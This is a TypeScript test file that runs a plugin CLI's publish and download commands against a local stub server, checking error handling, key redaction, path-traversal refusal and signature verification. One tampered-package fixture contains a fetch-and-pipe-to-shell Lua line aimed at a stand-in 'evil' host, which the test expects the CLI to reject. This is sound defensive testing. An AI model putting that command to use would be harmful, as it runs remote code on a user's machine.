/**
 * publish and download against a local node:http stub that answers like the API does
 * (docs/api.md#errors envelope, Retry-After, X-Request-Id): each answer must become its
 * message and exit code. The stub picks its answer by the changelog (publish)
 * or the path (download), so the cases run side by side. The real server is exercised in e2e.test.ts.
 */
import { createServer, type IncomingHttpHeaders, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { dirname, join } from "node:path";
import { publishRequestSchema, type PublishResponse } from "@streamkit/api-contract";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { keyIdHex, minisignKeyFromSeed, minisignPublicKeyText, minisignSignatureText } from "@streamkit/plugin-rules/minisign";
import { digestHex, PACKAGE_DIGEST_ALGORITHM, packageDigest } from "@streamkit/plugin-rules/package-digest";
import { readTree, runCli, tempDir, writeTree } from "./support/run-cli";

const stubKey = minisignKeyFromSeed(Buffer.alloc(32, 1));
const otherKey = minisignKeyFromSeed(Buffer.alloc(32, 2));
const revokedKey = minisignKeyFromSeed(Buffer.alloc(32, 3));
const listedKey = (key: typeof stubKey, status: string) => ({
  keyId: keyIdHex(key.keyId),
  publicKey: minisignPublicKeyText(key),
  status,
  createdAt: "2026-01-01T00:00:00.000Z",
  retiredAt: null,
  revokedAt: status === "revoked" ? "2026-02-01T00:00:00.000Z" : null,
  revokedReason: null,
});

const KEY = `skit_${"Zz9Yy8Xx7W".repeat(3)}w6Vv5Uu4`;

interface Seen {
  method: string;
  url: string;
  headers: IncomingHttpHeaders;
  body: unknown;
}
interface Answer {
  status: number;
  headers?: Record<string, string>;
  body: string;
}

const seen = new Map<string, Seen>();
const answers = new Map<string, Answer>();
let server: Server;
let url: string;
let pluginDir: string;

const envelope = (code: string, message: string, details?: unknown) =>
  JSON.stringify({ error: { code, message, ...(details !== undefined ? { details } : {}) } });

function published(changelog: string): PublishResponse {
  const createdAt = "2025-01-02T03:04:05.678Z";
  return {
    version: {
      slug: "stub-plugin",
      version: "1.2.0",
      changelog,
      createdAt,
      files: [
        { path: "plugin.json", bytes: 70 },
        { path: "main.lua", bytes: 12 },
      ],
      review: { status: "listed", reasons: [] },
    },
    item: {
      id: "00000000-0000-4000-8000-000000000001",
      slug: "stub-plugin",
      name: "Stub",
      description: "",
      version: "1.2.0",
      permissions: [],
      permissionsWidened: false,
      category: null,
      tags: [],
      apiVersion: 1,
      rating: { average: null, count: 0 },
      publisher: { kind: "user", name: "Ada", verified: false, handle: "ada" },
      icon: { url: "/api/plugin-media/generated/stub-plugin.svg", width: 256, height: 256 },
      iconGenerated: true,
      downloads: 0,
      homepage: null,
      createdAt,
      updatedAt: createdAt,
      status: "published",
      mine: true,
      price: null,
      owned: true,
    },
  };
}

beforeAll(async () => {
  pluginDir = join(await tempDir(), "stub-plugin");
  await writeTree(pluginDir, {
    "plugin.json": JSON.stringify({ id: "stub-plugin", name: "Stub", version: "1.2.0" }),
    "main.lua": "print('hi')\n",
    ".git/config": "[core]\n",
  });
  server = createServer((req, res) => {
    let raw = "";
    req.setEncoding("utf8");
    req.on("data", (chunk: string) => (raw += chunk));
    req.on("end", () => {
      const body = JSON.parse(raw || "null") as { changelog?: string } | null;
      const scenario = req.method === "GET" ? req.url! : (body?.changelog ?? "");
      seen.set(scenario, { method: req.method!, url: req.url!, headers: req.headers, body });
      const answer = answers.get(scenario) ?? { status: 201, body: JSON.stringify(published(scenario)) };
      res.writeHead(answer.status, { "content-type": "application/json", "x-request-id": `req-${scenario}`, ...answer.headers });
      res.end(answer.body);
    });
  });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

afterAll(() => new Promise<void>((done) => server.close(() => done())));

beforeAll(() => {
  answers.set("/api/v1/plugin-signing-keys", { status: 200, body: JSON.stringify({ keys: [listedKey(stubKey, "active"), listedKey(revokedKey, "revoked")] }) });
});

function publish(changelog: string, extra: string[] = [], env: Record<string, string> = {}) {
  return runCli(["publish", pluginDir, "--changelog", changelog, "--api-url", url, ...extra], { env: { STREAMKIT_API_KEY: KEY, ...env } });
}

function neverShowsKey(...texts: string[]) {
  for (const text of texts) expect(text).not.toContain(KEY.slice(5));
}

describe("publish against a stub server", () => {
  it.concurrent("uploads the checked files with the key and prints what was published", async ({ expect }) => {
    const result = await publish("success");
    expect(result.stderr).toBe("");
    expect(result.code).toBe(0);
    expect(result.stdout).toBe(`Skipped: .git/ (name starts with a dot)\nPublished stub-plugin 1.2.0: 2 files, 82 bytes.\nPage: ${url}/plugins/stub-plugin\n`);
    const request = seen.get("success")!;
    expect(request.method).toBe("POST");
    expect(request.url).toBe("/api/v1/plugins");
    expect(request.headers.authorization).toBe(`Bearer ${KEY}`);
    expect(request.headers["content-type"]).toBe("application/json");
    expect(request.headers["user-agent"]).toMatch(/^streamkit-plugin\/\d+\.\d+\.\d+ node\//);
    expect(publishRequestSchema.parse(request.body)).toEqual({
      changelog: "success",
      files: [
        { path: "plugin.json", content: JSON.stringify({ id: "stub-plugin", name: "Stub", version: "1.2.0" }) },
        { path: "main.lua", content: "print('hi')\n" },
      ],
    });
  });

  it.concurrent("says a version held for review is not listed, and why", async ({ expect }) => {
    const held = published("held");
    const reason = {
      kind: "lookalike_plugin" as const,
      message: "The name looks like “Stub Pro” by another publisher.",
      imitates: { slug: "stub-pro", name: "Stub Pro" },
    };
    held.version.review = { status: "held", reasons: [reason] };
    answers.set("held", { status: 201, body: JSON.stringify(held) });
    const result = await publish("held");
    expect(result.code).toBe(0);
    expect(result.stdout).toBe(
      `Skipped: .git/ (name starts with a dot)\nUploaded stub-plugin 1.2.0 (2 files, 82 bytes); it is held for review and not listed until an operator approves it:\n  - ${reason.message}\nStatus: ${url}/dashboard/plugins\n`,
    );
  });

  it.concurrent("prints one JSON object with --json", async ({ expect }) => {
    const result = await publish("success-json", ["--json"]);
    expect(result.code).toBe(0);
    expect(result.json).toMatchObject({
      ok: true,
      command: "publish",
      slug: "stub-plugin",
      version: "1.2.0",
      changelog: "success-json",
      url: `${url}/plugins/stub-plugin`,
      files: [
        { path: "plugin.json", bytes: 70 },
        { path: "main.lua", bytes: 12 },
      ],
      requestId: "req-success-json",
      item: { slug: "stub-plugin", mine: true },
    });
    expect(result.stdout.trim().split("\n")).toHaveLength(1);
  });

  it.concurrent("takes the key from --api-key and the address from STREAMKIT_API_URL", async ({ expect }) => {
    const result = await runCli(["publish", pluginDir, "--changelog", "flags", "--api-key", KEY], { env: { STREAMKIT_API_URL: `${url}/` } });
    expect(result.code).toBe(0);
    expect(seen.get("flags")!.headers.authorization).toBe(`Bearer ${KEY}`);
  });

  const cases: { name: string; answer: Answer; exit: number; says: string[]; json?: Record<string, unknown> }[] = [
    {
      name: "invalid_package",
      answer: {
        status: 400,
        body: envelope("invalid_package", "The package has 2 problems; fix them and publish again — …", [
          { path: "main.lua:3:1", message: "Lua syntax error: unexpected symbol near 'end'" },
          { path: "plugin.json#/version", message: '"version" must look like "1.2.3"' },
        ]),
      },
      exit: 3,
      says: [
        "error: the server refused the package: 2 problems",
        "main.lua:3:1: Lua syntax error: unexpected symbol near 'end'",
        'plugin.json#/version: "version" must look like "1.2.3"',
      ],
      json: {
        error: { code: "invalid_package", status: 400 },
        problems: [
          { path: "main.lua:3:1", message: "Lua syntax error: unexpected symbol near 'end'" },
          { path: "plugin.json#/version", message: '"version" must look like "1.2.3"' },
        ],
      },
    },
    {
      name: "payload_too_large",
      answer: { status: 413, body: envelope("payload_too_large", "The body is larger than 2 MiB.") },
      exit: 3,
      says: ["error: the upload is too large for the server: The body is larger than 2 MiB."],
    },
    {
      name: "unauthorized",
      answer: { status: 401, body: envelope("unauthorized", "Send an API key.") },
      exit: 4,
      says: ["error: the server received no API key (401 unauthorized)"],
    },
    {
      name: "invalid_token",
      answer: { status: 401, body: envelope("invalid_token", "The API key is unknown, revoked or expired.") },
      exit: 4,
      says: ["error: the API key was not accepted (401 invalid_token)", "hint: create a new key with the plugins:write scope at http://127.0.0.1:"],
    },
    {
      name: "insufficient_scope",
      answer: { status: 403, body: envelope("insufficient_scope", "This key lacks plugins:write.", { requiredScope: "plugins:write" }) },
      exit: 4,
      says: ["error: the API key lacks the scope plugins:write (403 insufficient_scope)", "hint: create a key with plugins:write at http://127.0.0.1:"],
      json: { error: { code: "insufficient_scope", details: { requiredScope: "plugins:write" } } },
    },
    {
      name: "plan_required",
      answer: { status: 403, body: envelope("plan_required", "Publishing needs the Pro plan.", { requiredPlan: "pro" }) },
      exit: 4,
      says: ["error: Publishing plugins needs the Pro or Ultimate plan (403 plan_required)", "/plans"],
    },
    {
      name: "account_disabled",
      answer: { status: 403, body: envelope("account_disabled", "This account is suspended.") },
      exit: 4,
      says: ["error: the account is suspended (403 account_disabled)"],
    },
    {
      name: "slug_taken",
      answer: { status: 409, body: envelope("slug_taken", 'Another publisher owns the plugin id "stub-plugin".') },
      exit: 5,
      says: ["error: the plugin id is taken (409 slug_taken)", 'hint: choose another "id" in plugin.json and rename the folder to match'],
    },
    {
      name: "version_exists",
      answer: { status: 409, body: envelope("version_exists", "Version 1.2.0 is not higher than the published 1.2.0.", { currentVersion: "1.2.0" }) },
      exit: 5,
      says: [
        "error: this version cannot be published (409 version_exists): Version 1.2.0 is not higher than the published 1.2.0.",
        'hint: raise "version" in plugin.json above 1.2.0, e.g. 1.2.1',
      ],
    },
    {
      name: "rate_limited",
      answer: { status: 429, headers: { "retry-after": "1500" }, body: envelope("rate_limited", "At most 10 publishes per hour; retry in 1500 seconds.") },
      exit: 6,
      says: ["error: too many requests (429 rate_limited): try again in 25 minutes (after 20", "at most 10 publishes per hour"],
      json: { error: { code: "rate_limited", retryAfterSeconds: 1500, retryAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/) } },
    },
    {
      name: "internal_error",
      answer: { status: 500, body: envelope("internal_error", "Something went wrong on our side.") },
      exit: 7,
      says: ["error: the service failed (500 internal_error)", "report it quoting request id req-internal_error"],
      json: { error: { code: "internal_error", status: 500, requestId: "req-internal_error-json" } },
    },
    {
      name: "bad_gateway_html",
      answer: { status: 502, headers: { "content-type": "text/html" }, body: "<html><body>Bad gateway</body></html>" },
      exit: 7,
      says: ["error: server error from http://127.0.0.1:", "HTTP 502 (not JSON)", "request id req-bad_gateway_html"],
    },
    {
      name: "validation_error",
      answer: { status: 400, body: envelope("validation_error", "The body is invalid.", [{ path: "changelog", message: "Too big" }]) },
      exit: 7,
      says: ["error: the server did not accept the request (400 validation_error): The body is invalid.", "changelog: Too big"],
    },
    {
      name: "not_found",
      answer: { status: 404, body: envelope("not_found", "No such route.") },
      exit: 7,
      says: ["has no such endpoint (404 not_found)", "without /api/v1"],
    },
    {
      name: "teapot_error",
      answer: { status: 418, body: envelope("teapot_error", "A code from a newer server.") },
      exit: 7,
      says: ["error: the service refused the request (418 teapot_error): A code from a newer server."],
    },
    {
      name: "redirect",
      answer: { status: 301, headers: { location: "https://streamkit.example/api/v1/plugins" }, body: "" },
      exit: 7,
      says: ["answered with a redirect (301) to https://streamkit.example/api/v1/plugins"],
    },
  ];

  for (const c of cases) {
    it.concurrent(`${c.name} → exit ${c.exit}`, async ({ expect }) => {
      answers.set(c.name, c.answer);
      answers.set(`${c.name}-json`, c.answer);
      const human = await publish(c.name);
      expect(human.code).toBe(c.exit);
      expect(human.stdout).toBe("Skipped: .git/ (name starts with a dot)\n");
      for (const text of c.says) expect(human.stderr).toContain(text);
      expect(seen.get(c.name)?.headers.authorization).toBe(`Bearer ${KEY}`);

      const json = await publish(`${c.name}-json`, ["--json"]);
      expect(json.code).toBe(c.exit);
      expect(json.stderr).toBe("");
      expect(json.json).toMatchObject({
        ok: false,
        command: "publish",
        exitCode: c.exit,
        error: { code: c.name === "bad_gateway_html" ? "server_error" : c.name === "redirect" ? "redirect" : c.name },
      });
      if (c.json) expect(json.json).toMatchObject(c.json);
      neverShowsKey(human.stdout, human.stderr, json.stdout);
    });
  }

  it.concurrent("uploads nothing when the local check fails (exit 3)", async ({ expect }) => {
    const dir = join(await tempDir(), "broken-plugin");
    await writeTree(dir, { "plugin.json": JSON.stringify({ id: "broken-plugin", name: "B", version: "1" }), "main.lua": "x = = 1\n" });
    const result = await runCli(["publish", dir, "--changelog", "local-invalid", "--api-url", url], { env: { STREAMKIT_API_KEY: KEY } });
    expect(result.code).toBe(3);
    expect(result.stderr).toContain("error: broken-plugin: 2 problems; nothing was uploaded");
    expect(result.stderr).toMatch(/^main\.lua:1:\d+: Lua syntax error: /m);
    expect(result.stderr).toMatch(/^plugin\.json#\/version: "version" must look like/m);
    expect(seen.has("local-invalid")).toBe(false);
  });

  it.concurrent("says when nothing is listening (exit 7)", async ({ expect }) => {
    const closed = createServer();
    await new Promise<void>((done) => closed.listen(0, "127.0.0.1", done));
    const port = (closed.address() as AddressInfo).port;
    await new Promise<void>((done) => closed.close(() => done()));
    const result = await runCli(["publish", pluginDir, "--changelog", "refused", "--api-url", `http://127.0.0.1:${port}`], { env: { STREAMKIT_API_KEY: KEY } });
    expect(result.code).toBe(7);
    expect(result.stderr).toContain(`error: cannot reach http://127.0.0.1:${port}: the connection was refused`);
    neverShowsKey(result.stdout, result.stderr);
  });
});

describe("download against a stub server", () => {
  /** A package signed as the service signs it (plugins/signing), by `key`. */
  const signed = (id: string, files: { path: string; content: string }[], key = stubKey) => {
    const publisherId = "00000000-0000-4000-8000-0000000000aa";
    const digest = packageDigest({ id, version: "2.0.0", publisherId, permissions: [], optionalPermissions: [], files });
    const keyId = keyIdHex(key.keyId);
    const signature = minisignSignatureText(key, digest, { trustedComment: `plugin:${id}\tversion:2.0.0\tdigest:sha256:${digestHex(digest)}\tkey:${keyId}` });
    return {
      listingId: "l1",
      id,
      version: "2.0.0",
      publisher: { kind: "user", name: "Ada", verified: false, handle: "ada" },
      files,
      publisherId,
      digestAlgorithm: PACKAGE_DIGEST_ALGORITHM,
      digest: digestHex(digest),
      signature,
      keyId,
    };
  };
  const manifestOf = (id: string) => ({ path: "plugin.json", content: JSON.stringify({ id, name: "Some", version: "2.0.0" }) });
  const pkg = (files: { path: string; content: string }[], id = "some-plugin") => JSON.stringify(signed(id, files));

  it.concurrent("writes the package into <id>/", async ({ expect }) => {
    answers.set("/api/v1/plugins/some-plugin/package", {
      status: 200,
      body: pkg([manifestOf("some-plugin"), { path: "lib/util.lua", content: "return {}\n" }]),
    });
    const parent = await tempDir();
    const result = await runCli(["download", "some-plugin", "--dir", parent, "--api-url", url], { env: { STREAMKIT_API_KEY: KEY } });
    expect(result.code, result.stderr).toBe(0);
    expect(seen.get("/api/v1/plugins/some-plugin/package")!.headers.authorization).toBe(`Bearer ${KEY}`);
    expect(await readTree(join(parent, "some-plugin"))).toEqual({
      "plugin.json": Buffer.from(manifestOf("some-plugin").content),
      "lib/util.lua": Buffer.from("return {}\n"),
    });
    expect(result.stdout).toContain(`signature verified with key ${keyIdHex(stubKey.keyId)}`);
  });

  it.concurrent("exits 8 for a plugin that does not exist", async ({ expect }) => {
    answers.set("/api/v1/plugins/missing-one/package", { status: 404, body: envelope("not_found", "No plugin missing-one.") });
    const result = await runCli(["download", "missing-one", "--dir", await tempDir(), "--api-url", url], { env: { STREAMKIT_API_KEY: KEY } });
    expect(result.code).toBe(8);
    expect(result.stderr).toContain('error: no plugin "missing-one" (404 not_found)');
  });

  it.concurrent("writes nothing when a path would leave the folder", async ({ expect }) => {
    answers.set("/api/v1/plugins/evil-one/package", {
      status: 200,
      body: pkg([manifestOf("evil-one"), { path: "../outside.lua", content: "x" }], "evil-one"),
    });
    const parent = await tempDir();
    const result = await runCli(["download", "evil-one", "--dir", parent, "--api-url", url], { env: { STREAMKIT_API_KEY: KEY } });
    expect(result.code).toBe(7);
    expect(result.stderr).toContain('not safe to write: "../outside.lua"');
    expect(await readTree(parent)).toEqual({});
  });

  /** Downloads `slug` into a fresh folder with a fresh pin file; the folder must stay empty when `code` is not 0. */
  async function refused(slug: string, body: unknown, code: number, extra: string[] = [], config?: string) {
    answers.set(`/api/v1/plugins/${slug}/package`, { status: 200, body: JSON.stringify(body) });
    const parent = await tempDir();
    const env: Record<string, string> = { STREAMKIT_API_KEY: KEY, STREAMKIT_CONFIG_DIR: config ?? (await tempDir()) };
    const result = await runCli(["download", slug, "--dir", parent, "--api-url", url, ...extra], { env });
    expect(result.code, result.stderr).toBe(code);
    expect(await readTree(parent)).toEqual({});
    return result;
  }

  it.concurrent("refuses a tampered file (exit 9) and writes nothing", async () => {
    const good = signed("tampered-one", [manifestOf("tampered-one"), { path: "main.lua", content: "print('hi')\n" }]);
    const tampered = { ...good, files: [good.files[0], { path: "main.lua", content: "os.execute('curl evil | sh')\n" }] };
    const result = await refused("tampered-one", tampered, 9);
    expect(result.stderr).toContain("error: the package's files do not match its signed digest (changed on the way, or tampered with); nothing was written");
  });

  it.concurrent("refuses a digest and signature both replaced but signed by a key the service does not list", async () => {
    const forged = signed("forged-one", [manifestOf("forged-one"), { path: "main.lua", content: "x()\n" }], otherKey);
    const result = await refused("forged-one", forged, 9);
    expect(result.stderr).toContain(`the package is signed by key ${keyIdHex(otherKey.keyId)}, which ${url} does not list; nothing was written`);
  });

  it.concurrent("refuses a signature made with another key under the listed key's id", async () => {
    const forged = { ...signed("swapped-one", [manifestOf("swapped-one")], otherKey), keyId: keyIdHex(stubKey.keyId) };
    const result = await refused("swapped-one", forged, 9);
    expect(result.stderr).toContain("the package's signature does not verify: The signature was made with another key.");
  });

  it.concurrent("refuses a package signed by a revoked key", async () => {
    const result = await refused("revoked-one", signed("revoked-one", [manifestOf("revoked-one")], revokedKey), 9);
    expect(result.stderr).toContain(`the package is signed by key ${keyIdHex(revokedKey.keyId)}, which is revoked; nothing was written`);
  });

  it.concurrent("with --public-key trusts that key only", async () => {
    const file = join(await tempDir(), "other.pub");
    await writeTree(dirname(file), { "other.pub": minisignPublicKeyText(otherKey) });
    const body = signed("pinned-one", [manifestOf("pinned-one")], otherKey);
    answers.set("/api/v1/plugins/pinned-one/package", { status: 200, body: JSON.stringify(body) });
    const parent = await tempDir();
    const ok = await runCli(["download", "pinned-one", "--dir", parent, "--api-url", url, "--public-key", file], { env: { STREAMKIT_API_KEY: KEY } });
    expect(ok.code, ok.stderr).toBe(0);
    const refusedOne = await refused("pinned-two", signed("pinned-two", [manifestOf("pinned-two")]), 9, ["--public-key", file]);
    expect(refusedOne.stderr).toContain("The signature was made with another key.");
  });

  it.concurrent("pins the keys on first use and refuses when the service later lists another public key under a pinned id", async () => {
    const config = await tempDir();
    const pinnedFile = join(config, "trusted-signing-keys.json");
    await writeTree(config, {
      "trusted-signing-keys.json": JSON.stringify({ [url]: { [keyIdHex(stubKey.keyId)]: { publicKey: minisignPublicKeyText(otherKey), status: "active" } } }),
    });
    const result = await refused("repinned-one", signed("repinned-one", [manifestOf("repinned-one")]), 9, [], config);
    expect(result.stderr).toContain(`the service now lists another public key for the pinned key ${keyIdHex(stubKey.keyId)}`);
    expect(result.stderr).toContain(pinnedFile);
  });
});
